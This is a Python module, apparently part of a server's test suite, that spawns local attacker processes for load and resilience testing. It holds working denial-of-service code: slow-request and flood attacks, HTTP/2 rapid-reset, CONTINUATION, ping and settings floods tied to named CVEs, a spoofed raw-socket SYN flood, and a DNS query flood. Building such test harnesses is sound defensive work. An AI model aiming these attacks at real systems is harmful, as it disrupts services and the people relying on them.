"""Attackers, each a process of its own: `attackers.py KIND ADDRESS SECONDS`. They come from many
addresses of 127.0.0.0/8, end by themselves, and print what they did.

Nothing here reaches beyond loopback, or a network namespace that a test has made.
"""

from __future__ import annotations

import argparse
import ipaddress
import itertools
import json
import os
import select
import socket
import ssl
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

from question import question

HOST = b"app.test"
# How many connections are begun at a time, and how long the attacker rests then.
OPENED_AT_ONCE = 100
PAUSE_SECONDS = 0.005
PIPELINED = 8
# The piece of time of which a part is kept busy.
SLICE_SECONDS = 0.01
READ_BYTES = 64 * 1024
# Where spoofed packets come from: a network of which the test says that it is there.
NOBODY = "10.77.0.0"
GOES = select.EPOLLHUP | select.EPOLLERR | select.EPOLLRDHUP


def sources(many: int) -> Iterator[str]:
    """So many addresses of loopback, again and again."""
    first = int(ipaddress.ip_address("127.9.0.1"))
    while True:
        for number in range(many):
            yield str(ipaddress.ip_address(first + number))


@dataclass
class Attack:
    """What all attackers are told, and what they did."""

    address: tuple[str, int]
    ends: float
    addresses: int
    connections: int
    a_second: float
    share: float
    zone: str
    done: dict[str, int] = field(default_factory=dict)

    def is_over(self) -> bool:
        return time.monotonic() >= self.ends

    def count(self, what: str, many: int = 1) -> None:
        self.done[what] = self.done.get(what, 0) + many


def opened(attack: Attack, source: str, receive_buffer: int | None = None) -> socket.socket:
    """A connection that is being opened, from this address."""
    connection = socket.socket()
    connection.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    # The port is chosen when the connection is made: one for each, of each source.
    connection.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
    if receive_buffer:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    connection.setblocking(False)
    connection.bind((source, 0))
    connection.connect_ex(attack.address)
    attack.count("connections")
    return connection


@dataclass(frozen=True)
class Trickle:
    """A request that never ends: how it begins, and what comes each second."""

    first: bytes = b""
    drop: bytes = b""
    reads: bool = True


def trickle(attack: Attack, how: Trickle) -> None:
    """Keeps up connections that go on drop by drop."""
    held: dict[int, tuple[socket.socket, float]] = {}
    watch, source = select.epoll(), sources(attack.addresses)
    events = GOES | (select.EPOLLIN if how.reads else 0)
    while not attack.is_over():
        for _ in range(min(OPENED_AT_ONCE, attack.connections - len(held))):
            connection = opened(attack, next(source), None if how.reads else 1024)
            held[connection.fileno()] = (connection, 0.0)
            watch.register(connection, events)
        for number, _ in watch.poll(PAUSE_SECONDS):
            connection, _ = held[number]
            try:
                goes_on = how.reads and connection.recv(READ_BYTES) != b""
            except OSError:
                goes_on = False
            if not goes_on:
                watch.unregister(number)
                connection.close()
                del held[number]
                attack.count("ended")
        now = time.monotonic()
        for number, (connection, due) in list(held.items()):
            if due > now:
                continue
            try:
                connection.send(how.drop if due else how.first)
                held[number] = (connection, now + 1.0)
            except BlockingIOError:
                pass
            except OSError:
                held[number] = (connection, now + 1.0)
    attack.count("held", len(held))


def flood(attack: Attack) -> None:
    """Asks as often as it is told to, some requests ahead on each connection."""
    request = b"GET /flood HTTP/1.1\r\nHost: " + HOST + b"\r\nUser-Agent: flood\r\n\r\n"
    waiting: dict[int, tuple[socket.socket, int]] = {}
    watch, source = select.epoll(), sources(attack.addresses)
    began = time.monotonic()
    while not attack.is_over():
        while len(waiting) < attack.connections:
            connection = opened(attack, next(source))
            waiting[connection.fileno()] = (connection, 0)
            watch.register(connection, select.EPOLLIN | select.EPOLLOUT | select.EPOLLET)
        for number, event in watch.poll(PAUSE_SECONDS):
            connection, ahead = waiting[number]
            allowed = (time.monotonic() - began) * attack.a_second
            may = attack.done.get("requests", 0) < allowed
            try:
                if event & select.EPOLLIN:
                    answered = connection.recv(READ_BYTES)
                    if not answered:
                        raise ConnectionResetError
                    came = answered.count(b"HTTP/1.1 ")
                    attack.count("answers", came)
                    attack.count("refused", answered.count(b"HTTP/1.1 403 "))
                    ahead -= came
                if ahead <= 0 and may:
                    connection.sendall(request * PIPELINED)
                    attack.count("requests", PIPELINED)
                    ahead = PIPELINED
                elif ahead <= 0:
                    # Its turn comes again.
                    flags = select.EPOLLIN | select.EPOLLOUT | select.EPOLLET
                    watch.modify(number, flags)
                waiting[number] = (connection, ahead)
            except BlockingIOError:
                pass
            except OSError:
                watch.unregister(number)
                connection.close()
                del waiting[number]
                attack.count("ended")


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2. (RFC 9113, section 4.1.)"""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)
# `:method GET`, `:scheme https`, `:path /` of the static table, and `:authority`. (RFC 7541.)
HEAD = b"\x82\x87\x84\x41" + bytes([len(HOST)]) + HOST
END_STREAM, END_HEADERS = 1, 4


def resets() -> Iterator[bytes]:
    """Streams that are opened and reset at once, 100 at a time. (CVE-2023-44487.)"""
    stream = 1
    while stream < 2**30:
        frames = []
        for _ in range(100):
            frames.append(frame(1, END_STREAM | END_HEADERS, stream, HEAD))
            frames.append(frame(3, 0, stream, struct.pack(">I", 8)))
            stream += 2
        yield b"".join(frames)


def continuations() -> Iterator[bytes]:
    """A head that never ends. (CVE-2024-27316.)"""
    yield frame(1, END_STREAM, 1, HEAD)
    piece = frame(9, 0, 1, b"\x00\x01x\x7f\x00" + b"y" * 127) * 100
    while True:
        yield piece


def pings() -> Iterator[bytes]:
    """Questions that each want an answer. (CVE-2019-9512.)"""
    while True:
        yield frame(6, 0, 0, b"--ping--") * 1000


def settings() -> Iterator[bytes]:
    """Settings that each want to be acknowledged. (CVE-2019-9515.)"""
    while True:
        yield frame(4, 0, 0) * 1000


def abuse(attack: Attack, frames: Callable[[], Iterator[bytes]]) -> None:
    """Sends frames over TLS as fast as they are taken, and comes again when it is let go."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    source = sources(attack.addresses)
    while not attack.is_over():
        connection = socket.socket()
        connection.settimeout(2)
        connection.bind((next(source), 0))
        try:
            connection.connect(attack.address)
            with context.wrap_socket(connection, server_hostname=HOST.decode()) as spoken:
                attack.count("connections")
                spoken.sendall(PREFACE)
                for piece in frames():
                    if attack.is_over():
                        break
                    spoken.sendall(piece)
                    attack.count("pieces")
                    drained(spoken)
        except OSError:
            attack.count("ended")
        finally:
            connection.close()


def drained(spoken: ssl.SSLSocket) -> None:
    """Reads what is there, so that nobody can say that this client does not."""
    spoken.setblocking(False)
    try:
        while spoken.recv(READ_BYTES):
            pass
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        spoken.settimeout(2)


def syn(attack: Attack) -> None:
    """First packets of connections, from addresses where nobody is. It needs a raw socket."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    host, port = attack.address
    target = socket.inet_aton(host)
    network = int(ipaddress.ip_address(NOBODY))
    number, began = 0, time.monotonic()
    while not attack.is_over():
        if attack.done.get("packets", 0) > (time.monotonic() - began) * attack.a_second:
            time.sleep(0.001)
            continue
        for _ in range(50):
            number += 1
            source = struct.pack(">I", network | (number * 7919 & 0xFFFF))
            raw.sendto(segment(source, target, 1024 + number % 60000, port, number), (host, 0))
        attack.count("packets", 50)


def segment(source: bytes, target: bytes, from_port: int, port: int, number: int) -> bytes:
    """A first packet: IPv4 and TCP with SYN. The kernel fills in the checksum of IPv4."""
    tcp = struct.pack(">HHIIBBHHH", from_port, port, number, 0, 5 << 4, 2, 65535, 0, 0)
    pseudo = source + target + struct.pack(">BBH", 0, socket.IPPROTO_TCP, len(tcp))
    total = sum(struct.unpack(">16H", pseudo + tcp))
    total = (total & 0xFFFF) + (total >> 16)
    checksum = ~(total + (total >> 16)) & 0xFFFF
    tcp = tcp[:16] + struct.pack(">H", checksum) + tcp[18:]
    header = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0)
    return header + source + target + tcp


def dns(attack: Attack) -> None:
    """Asks for names that are not there, and reads no answer."""
    addresses = itertools.islice(sources(attack.addresses), attack.addresses)
    asking = []
    for address in addresses:
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.setblocking(False)
        one.bind((address, 0))
        one.connect(attack.address)
        asking.append(one)
    began, number = time.monotonic(), 0
    while not attack.is_over():
        if number > (time.monotonic() - began) * attack.a_second:
            time.sleep(0.001)
            continue
        number += 1
        try:
            one = asking[number % len(asking)]
            one.send(question(number % 0x10000, f"n{number}.{attack.zone}"))
            attack.count("queries")
        except OSError:
            attack.count("unsent")


def busy(attack: Attack) -> None:
    """Attacks nobody: keeps its core as busy as attackers did."""
    while not attack.is_over():
        ends = time.process_time() + attack.share * SLICE_SECONDS
        while time.process_time() < ends:
            attack.count("rounds")
        time.sleep((1 - attack.share) * SLICE_SECONDS)


UNENDING_HEAD = Trickle(b"GET / HTTP/1.1\r\nHost: " + HOST + b"\r\n", b"X-A: b\r\n")
UNENDING_BODY = Trickle(
    b"POST / HTTP/1.1\r\nHost: " + HOST + b"\r\nContent-Length: 1000000\r\n\r\n", b"x"
)
UNREAD_ANSWER = Trickle(b"GET /large HTTP/1.1\r\nHost: " + HOST + b"\r\n\r\n", reads=False)

KINDS: dict[str, Callable[[Attack], None]] = {
    "busy": busy,
    "slow-headers": lambda attack: trickle(attack, UNENDING_HEAD),
    "slow-body": lambda attack: trickle(attack, UNENDING_BODY),
    "slow-read": lambda attack: trickle(attack, UNREAD_ANSWER),
    "idle": lambda attack: trickle(attack, Trickle()),
    "flood": flood,
    "rapid-reset": lambda attack: abuse(attack, resets),
    "continuation": lambda attack: abuse(attack, continuations),
    "ping": lambda attack: abuse(attack, pings),
    "settings": lambda attack: abuse(attack, settings),
    "syn": syn,
    "dns": dns,
}


def main() -> None:
    arguments = argparse.ArgumentParser(description=__doc__)
    arguments.add_argument("kind", choices=KINDS)
    arguments.add_argument("address")
    arguments.add_argument("seconds", type=float)
    arguments.add_argument("--addresses", type=int, default=1)
    arguments.add_argument("--connections", type=int, default=1000)
    arguments.add_argument("--a-second", type=float, default=5000)
    arguments.add_argument("--share", type=float, default=1.0)
    arguments.add_argument("--zone", default="")
    arguments.add_argument("--core", type=int)
    chosen = arguments.parse_args()
    if chosen.core is not None:
        os.sched_setaffinity(0, {chosen.core})
    host, port = chosen.address.rsplit(":", 1)
    ends = time.monotonic() + chosen.seconds
    made = (chosen.addresses, chosen.connections, chosen.a_second, chosen.share, chosen.zone)
    attack = Attack((host, int(port)), ends, *made)
    KINDS[chosen.kind](attack)
    json.dump({"done": attack.done, "busy_seconds": time.process_time()}, sys.stdout)


if __name__ == "__main__":
    main()
